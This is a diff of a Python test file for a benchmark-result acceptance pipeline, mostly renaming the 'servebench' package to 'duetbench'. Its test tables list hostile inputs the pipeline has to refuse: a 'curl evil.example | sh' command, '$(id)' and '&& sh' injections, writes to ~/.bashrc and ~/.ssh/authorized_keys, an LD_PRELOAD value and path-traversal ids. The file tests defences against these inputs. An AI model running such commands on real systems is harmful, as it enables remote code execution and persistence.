@@ -22,6 +22,25 @@ from typer.testing import CliRunner
 
 import steps
 from attributing import attribution
+from duetbench.automation.incoming import acceptance, facts, folder, inprocess
+from duetbench.automation.incoming.acceptance import Acceptance
+from duetbench.automation.incoming.folder import ArtifactFile
+from duetbench.cli import app
+from duetbench.core import text
+from duetbench.core.errors import ArtifactError, UsageError
+from duetbench.core.flags import FlagName
+from duetbench.core.model import Commands, Frozen, Machine, Run, RunStatus
+from duetbench.declare import settings
+from duetbench.host import paths
+from duetbench.record import store
+from duetbench.record.change import Candidate, Candidates, ChangeRecord, Release
+from duetbench.record.comparison import Comparison, Missing
+from duetbench.record.files import encode
+from duetbench.record.files import write as store_file
+from duetbench.record.history.kinds import kind_of
+from duetbench.record.points import Points, path_of
+from duetbench.record.trial import Trial, load_trials, trial_path
+from duetbench.toolchain import interpreters, stacks
 from foreign import (
     BASE,
     HEAD,
@@ -39,25 +58,6 @@ from foreign import (
     shard_run,
     trial,
 )
-from servebench.automation.incoming import acceptance, facts, folder, inprocess
-from servebench.automation.incoming.acceptance import Acceptance
-from servebench.automation.incoming.folder import ArtifactFile
-from servebench.cli import app
-from servebench.core import text
-from servebench.core.errors import ArtifactError, UsageError
-from servebench.core.flags import FlagName
-from servebench.core.model import Commands, Frozen, Machine, Run, RunStatus
-from servebench.declare import settings
-from servebench.host import paths
-from servebench.record import store
-from servebench.record.change import Candidate, Candidates, ChangeRecord, Release
-from servebench.record.comparison import Comparison, Missing
-from servebench.record.files import encode
-from servebench.record.files import write as store_file
-from servebench.record.history.kinds import kind_of
-from servebench.record.points import Points, path_of
-from servebench.record.trial import Trial, load_trials, trial_path
-from servebench.toolchain import interpreters, stacks
 from synthetic import failed, ok
 
 Table = dict[str, tuple[Any, str]]
@@ -275,7 +275,7 @@ CLAIMS: Final[Table] = {
     "another profile": (of(profile="quick"), "profile: expected nightly"),
     "more launches": (of(launches=50), "launches: expected 3"),
     "another seed": (of(seed=2), "seed: expected 1"),
-    "another servebench": (of(servebench="9.9"), "servebench: expected"),
+    "another duetbench": (of(duetbench="9.9"), "duetbench: expected"),
     "another generator": (of(oha="0.1.0"), "oha: expected 1.16.0"),
     "another lock": (stack(digest="0" * 64), "lock of stack current"),
     "a package that no lock has": (
@@ -361,7 +361,7 @@ def test_a_plan_that_was_replaced_is_noticed(tmp_path: Path) -> None:
 # Figures inside the process, in asv's files.
 
 ASV: Final = f"asv/{MACHINES[0].id}"
-RESULTS: Final = f"{ASV}/3f2a9c17-servebench-py3.14-stackcurrent.json"
+RESULTS: Final = f"{ASV}/3f2a9c17-duetbench-py3.14-stackcurrent.json"
 
 
 def test_figures_inside_the_process_come_with_a_run(inbox: Path) -> None:
@@ -387,7 +387,7 @@ def test_what_asv_itself_has_written_is_accepted(reference_results: Path) -> Non
         if (results / "asv" / run.machine.id).is_dir()
     )
     files: dict[str, list[ArtifactFile]] = {}
-    for path in sorted((results / "asv" / machine.id).glob("*-servebench-*.json")):
+    for path in sorted((results / "asv" / machine.id).glob("*-duetbench-*.json")):
         document = json.loads(path.read_bytes())
         found = ArtifactFile(path.relative_to(results).as_posix(), path.read_bytes())
         files.setdefault(document["commit_hash"], []).append(found)
@@ -431,7 +431,7 @@ INSIDE: Final[Table] = {
     "a requirement": (
         {"requirements": {"stack": "current", "evil": "1"}}, "requirements: expected"),
     "a variable": ({"env_vars": {"LD_PRELOAD": "/tmp/x.so"}}, "variables: expected {}"),
-    "an environment that is a path": ({"env_name": "../../x"}, "environment: expected servebench-"),
+    "an environment that is a path": ({"env_name": "../../x"}, "environment: expected duetbench-"),
     "other columns": ({"result_columns": ["result"]}, "columns: expected"),
     "an unknown key": ({"x": 1}, "no results of asv: "),
     "another format": ({"version": 3}, "no results of asv: "),
@@ -531,7 +531,7 @@ POINTS: Final[Table] = {
     "of one release": (
         {"release": Release(package="a", version="1", previous=None)}, "release of points: "),
     "another anchor's": ({"anchor": "2025-01"}, "anchor: expected 2026-11, found '2025-01'"),
-    "another servebench's": ({"servebench": "6.6"}, "servebench: expected"),
+    "another duetbench's": ({"duetbench": "6.6"}, "duetbench: expected"),
     "another commit's": ({"commit": "0" * 40}, "commit: expected 3f2a9c17"),
     "another lock's": (
         {"stacks": [ONE.stacks[0].model_copy(update={"digest": "0" * 64})]}, "lock of stack curre"),
@@ -662,7 +662,7 @@ def test_figures_of_nobody_are_refused(inbox: Path) -> None:
     only_the_others(inbox, "with runs of 0 machines, expected one")
     put(inbox, "shard-1", shard_run(1))
     file = inbox / "shard-1" / RESULTS
-    file.rename(file.with_name("3f2a9c17-servebench-py3.14-stackother.json"))
+    file.rename(file.with_name("3f2a9c17-duetbench-py3.14-stackother.json"))
     again = acceptance.night(night(), inbox, inbox.parent / "again", TRUSTED, NOW)
     assert "name of a file: expected asv/" in again.refused[0].reason
 
@@ -709,20 +709,20 @@ COMPARISONS: Final[dict[str, tuple[dict[str, Any], str]]] = {
     "of changed files": (side("head", dirty=True), "uncommitted changes of head"),
     "of stacks": (side("head", kind="stack"), "kind of head"),
     "of interpreters": ({"cross": True}, "two interpreters"),
-    "by another servebench": ({"servebench": "6.6"}, "servebench: expected"),
+    "by another duetbench": ({"duetbench": "6.6"}, "duetbench: expected"),
     "with a name that is a path": ({"id": "../../x"}, "the id '../../x'"),
     **{
         f"with the command {command}": ({"reproduce": (command,)}, "the command ")
         for command in (
-            "servebench compare a b; curl evil.example | sh",
+            "duetbench compare a b; curl evil.example | sh",
             "sh x",
-            "servebench compare $(id)",
-            "servebench compare --with evilpkg==1.0 --output ~/.bashrc a b",
-            f"servebench compare {BASE[:12]} {HEAD[:12]} --markdown ~/.ssh/authorized_keys",
-            f"servebench compare {BASE[:12]} {HEAD[:12]} --seed 1 --output ~/.bashrc",
-            f"servebench compare {HEAD[:12]} {BASE[:12]} --seed 1",
-            f"servebench compare {BASE[:12]} {HEAD[:12]} --seed 1 --budget 9h",
-            f"servebench compare {BASE[:12]} {HEAD[:12]} --seed 1 && sh",
+            "duetbench compare $(id)",
+            "duetbench compare --with evilpkg==1.0 --output ~/.bashrc a b",
+            f"duetbench compare {BASE[:12]} {HEAD[:12]} --markdown ~/.ssh/authorized_keys",
+            f"duetbench compare {BASE[:12]} {HEAD[:12]} --seed 1 --output ~/.bashrc",
+            f"duetbench compare {HEAD[:12]} {BASE[:12]} --seed 1",
+            f"duetbench compare {BASE[:12]} {HEAD[:12]} --seed 1 --budget 9h",
+            f"duetbench compare {BASE[:12]} {HEAD[:12]} --seed 1 && sh",
         )
     },
     "with two commands": ({"reproduce": comparison().reproduce * 2}, "the command "),
@@ -748,7 +748,7 @@ def test_a_comparison_of_something_else_is_refused(tmp_path: Path, attack: str) 
         ({}, ""),
         ({"comparison": "another"}, "comparison of an attribution"),
         ({"case": "a/b"}, "the case 'a/b', which was not compared"),
-        ({"servebench": "6.6"}, "version"),
+        ({"duetbench": "6.6"}, "version"),
         ({"notes": ("\x1b[2J",)}, "a control character"),
     ],
 )
@@ -756,7 +756,7 @@ def test_which_code_it_is_may_come_with_a_comparison(
     tmp_path: Path, lie: dict[str, Any], reason: str
 ) -> None:
     one = comparison()
-    given = {"comparison": one.id, "case": one.cases[0].case.id, "servebench": one.servebench}
+    given = {"comparison": one.id, "case": one.cases[0].case.id, "duetbench": one.duetbench}
     data = encoded(attribution(**{**given, **lie}))
     incoming = tmp_path / "incoming"
     incoming.mkdir()
@@ -839,7 +839,7 @@ def test_a_record_says_what_follows_from_its_evidence(
         ({"change": "another"}, "change of an attribution"),
         ({"id": "another", "change": "another"}, "'another', which was not judged"),
         ({"head": judged()[2].base}, "head of an attribution"),
-        ({"servebench": "6.6"}, "version"),
+        ({"duetbench": "6.6"}, "version"),
         ({"case": "../x"}, "the case '../x'"),
         ({"notes": ("\x1b[2J",)}, "a control character"),
     ],
@@ -850,7 +850,7 @@ def test_an_attribution_is_of_a_change_that_came_with_it(
     candidate, evidence, record = judged()
     send(tmp_path / "in" / CONFIRMED, evidence, record)
     given = {name: getattr(record, name) for name in ("id", "base", "head", "packages")}
-    given |= {"change": record.id, "servebench": evidence.servebench}
+    given |= {"change": record.id, "duetbench": evidence.duetbench}
     found = attribution(**{**given, **lie})
     folder = tmp_path / "in" / CONFIRMED / "attributions"
     folder.mkdir()
@@ -945,7 +945,7 @@ def test_the_verb_tells_what_it_refused_and_nothing_acts_on_it(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Hostile names and texts stay in their line; no file of the runner's is written to."""
-    monkeypatch.setattr("servebench.cli.accept.datetime", _Clock)
+    monkeypatch.setattr("duetbench.cli.accept.datetime", _Clock)
     files = {}
     for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"):
         files[name] = tmp_path / name
@@ -989,7 +989,7 @@ def test_candidates_that_were_replaced_decide_nothing(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """As the plan: the file is held against what the job has said that found them."""
-    monkeypatch.setattr("servebench.cli.accept.datetime", _Clock)
+    monkeypatch.setattr("duetbench.cli.accept.datetime", _Clock)
     candidate, evidence, record = judged()
     oha = settings.load(paths.project_root()).oha.version
     send(tmp_path / "in" / CONFIRMED, evidence.model_copy(update={"oha": oha}), record)
